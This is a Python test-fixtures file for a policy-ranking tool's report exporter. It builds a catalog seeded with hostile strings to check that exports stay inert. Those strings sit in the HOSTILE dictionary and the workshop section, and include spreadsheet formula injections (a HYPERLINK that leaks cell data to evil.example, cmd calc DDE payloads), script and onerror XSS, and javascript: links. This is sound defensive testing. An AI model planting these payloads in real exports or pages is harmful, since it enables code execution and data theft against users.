"""Export fixtures: reports of the tiny catalog (one with every part: two methods, a preset, a
SMAA section and a workshop section), and a copy of the catalog full of hostile text.

The hostile catalog puts formula starts (``=``, ``+``, ``-``, ``@``: an option title each, and
``@`` at the start of a criterion's name too), HTML that would run, Markdown links and images
with ``javascript:`` and outside addresses into titles, names, rationales, quotes and a source's
title: every export must carry them as inert text.
"""

from __future__ import annotations

import json
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from policybench import catalog
from policybench.analysis.rank import rank_catalog
from policybench.analysis.screen import select
from policybench.analysis.workshop import group_result
from policybench.catalog import Catalog
from policybench.export.report import Report, build_report, group_section, smaa_section

FIXED_TIME = "2025-01-31T09:30:00Z"

HOSTILE = {
    "formula_title": '=HYPERLINK("http://evil.example/?q="&A1,"click")',
    "minus_title": "-2+3",
    "plus_title": "+cmd|' /C calc'!A0",
    "at_name": "@SUM(1+1) <b>bold</b>",
    "at_title": "@SUM(1+1)*cmd|' /C calc'!A0",
    "group_name": "<script>alert('group')</script>",
    "rationale": "<img src=x onerror=alert(1)> [click](javascript:alert(1)) https://evil.example/track.png",
    "quote": "<script>alert(1)</script> ![x](https://evil.example/x.png) www.evil.example",
    "source_title": "Read https://evil.example/ & <i>more</i>",
}


def _q(text: str) -> str:
    """A YAML double-quoted scalar (JSON strings are valid YAML)."""
    return json.dumps(text)


TINY_OPTIONS = Path(__file__).resolve().parents[1] / "fixtures" / "catalog"


@pytest.fixture(scope="module")
def tiny() -> Catalog:
    return catalog.load(TINY_OPTIONS)


@pytest.fixture(scope="module")
def hostile_options(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("hostile") / "catalog"
    shutil.copytree(TINY_OPTIONS, root)
    edits: dict[str, list[tuple[str, str]]] = {
        "policies/liaison.yaml": [
            ("title: Liaison officers", f"title: {_q(HOSTILE['formula_title'])}"),
            (
                "rationale: Test rationale for liaison on feasibility.",
                f"rationale: {_q(HOSTILE['rationale'])}",
            ),
            (
                'text: "One easy solution would be establishing a liaison position in each alliance headquarters"',
                f"text: {_q(HOSTILE['quote'])}",
            ),
        ],
        "policies/summits.yaml": [
            ("title: Regular summits", f"title: {_q(HOSTILE['minus_title'])}")
        ],
        "policies/two-plus-two.yaml": [
            ("title: A 2+2 meeting", f"title: {_q(HOSTILE['plus_title'])}")
        ],
        "policies/status-quo.yaml": [("title: Status quo", f"title: {_q(HOSTILE['at_title'])}")],
        "criteria.yaml": [("name: Chinese backlash", f"name: {_q(HOSTILE['at_name'])}")],
        "groups.yaml": [("name: Dialogue", f"name: {_q(HOSTILE['group_name'])}")],
        "sources.yaml": [
            (
                'title: "Japan-South Korea: So Close, Yet So Far"',
                f"title: {_q(HOSTILE['source_title'])}",
            )
        ],
    }
    for rel, pairs in edits.items():
        path = root / rel
        text = path.read_text(encoding="utf-8")
        for old, new in pairs:
            assert old in text, (rel, old)
            text = text.replace(old, new)
        path.write_text(text, encoding="utf-8")
    return root


@pytest.fixture(scope="module")
def hostile(hostile_options: Path) -> Catalog:
    return catalog.load(hostile_options)


@pytest.fixture(scope="module")
def make_report() -> Callable[..., Report]:
    """``make_report(cat, methods=("wsm", "topsis"), preset=None, **kw)``: a report at a fixed
    time, of the options in play (``selection``, default :func:`select` of the catalog)."""

    def make(
        cat: Catalog,
        methods: tuple[str, ...] = ("wsm", "topsis"),
        preset: str | None = None,
        **kw: Any,
    ) -> Report:
        weights = dict(cat.presets_by_id[preset].weights) if preset else None
        label = f"preset {preset}" if preset else "equal weights"
        kw.setdefault("selection", select(cat))
        options = kw["selection"].options if kw["selection"] is not None else None
        rankings = [
            rank_catalog(cat, weights, method=m, label=label, options=options) for m in methods
        ]
        kw.setdefault("timestamp", FIXED_TIME)
        return build_report(cat, rankings, preset=preset, weights_given=weights, **kw)

    return make


class FakeSMAA:
    """A SMAA result with an option that is never first (NaN central weights)."""

    def __init__(self, n: int, m: int) -> None:
        import numpy as np

        self.rank_acceptability = np.eye(n)[::-1] * 0.5 + np.full((n, n), 0.5 / n)
        self.rank_acceptability[0] = [0.0] + [1.0 / (n - 1)] * (n - 1)
        self.central_weights = np.full((n, m), 1.0 / m)
        self.central_weights[0] = np.nan
        self.confidence = np.linspace(0.0, 1.0, n)


def full_report(cat: Catalog, make_report: Callable[..., Report], **kw: Any) -> Report:
    """Two methods, a preset, a SMAA section and a workshop section, at a fixed time."""
    smaa = smaa_section(
        FakeSMAA(len(cat.options), len(cat.criteria)),
        cat.option_ids,
        cat.criterion_ids,
        cat,
        method="wsm",
        normalization="scale",
        samples=1000,
        seed=0,
    )
    result = group_result(
        cat,
        cat.option_ids,
        cat.criterion_ids,
        [
            {"feasibility": 1, "deterrence": 5, "backlash": 1},
            {"feasibility": 4, "deterrence": 1, "backlash": 2},
        ],
        combination="borda",
    )
    group = group_section(
        cat,
        result,
        title="Seminar <script>alert('w')</script>",
        names=["=cmd|' /C calc'!A0", "<img src=x onerror=alert(2)>"],
        reasons=[{"deterrence": "[x](javascript:alert(3)) https://evil.example/"}, {}],
    )
    return make_report(cat, ("wsm", "topsis"), preset="hawk", sections=[smaa, group], **kw)


@pytest.fixture(scope="module")
def report(tiny: Catalog, make_report: Callable[..., Report]) -> Report:
    return full_report(tiny, make_report)


@pytest.fixture(scope="module")
def hostile_report(hostile: Catalog, make_report: Callable[..., Report]) -> Report:
    return full_report(hostile, make_report)
